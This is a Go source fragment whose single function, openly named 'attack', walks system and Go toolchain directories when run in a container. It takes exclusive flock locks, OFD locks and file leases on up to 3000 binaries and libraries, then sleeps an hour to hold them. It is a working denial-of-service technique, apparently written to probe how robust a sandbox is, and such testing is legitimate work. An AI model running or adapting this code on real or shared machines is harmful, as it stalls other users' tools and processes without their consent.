package main

import (
	"io/fs"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

// Locks the machine's files, which a descriptor that can only read is enough
// for, and keeps them locked as long as it lives.
func attack(where string) {
	if where != "container" {
		return
	}
	n, leases := 0, 0
	for _, dir := range []string{"/usr/bin", "/usr/local/go/bin", "/usr/local/go/pkg/tool", "/usr/local/go/src/fmt", "/usr/lib"} {
		filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err != nil || n >= 3000 {
				return filepath.SkipAll
			}
			fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
			if err != nil {
				return nil
			}
			if unix.Flock(fd, unix.LOCK_EX|unix.LOCK_NB) == nil {
				n++
			}
			unix.FcntlFlock(uintptr(fd), unix.F_OFD_SETLK, &unix.Flock_t{Type: unix.F_RDLCK})
			if _, err := unix.FcntlInt(uintptr(fd), unix.F_SETLEASE, unix.F_RDLCK); err == nil {
				leases++
			}
			return nil
		})
	}
	say(n > 100, "locked the machine's files")
	say(leases, "leases")
	time.Sleep(time.Hour)
}
